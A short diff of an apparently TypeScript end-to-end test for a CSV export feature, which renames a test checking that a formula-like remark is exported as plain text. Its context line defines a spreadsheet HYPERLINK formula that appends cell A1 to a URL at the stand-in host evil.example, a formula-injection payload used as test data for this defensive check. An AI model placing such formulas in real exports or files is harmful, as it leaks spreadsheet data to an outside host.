@@ -9,7 +9,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';
 describe('CSV export', () => {
   const env = serverAndBrowser('e2e-csv-export-');
 
-  it('writes a formula-like remark as text, never as a live formula (issue 21)', async () => {
+  it('writes a formula-like remark as text, never as a live formula', async () => {
     const server = env.server();
     const round = await api<MeasureRound>(server, '/measure-round/1');
     const entry = round.entries.find((e) => e.tsParameter === 'W');
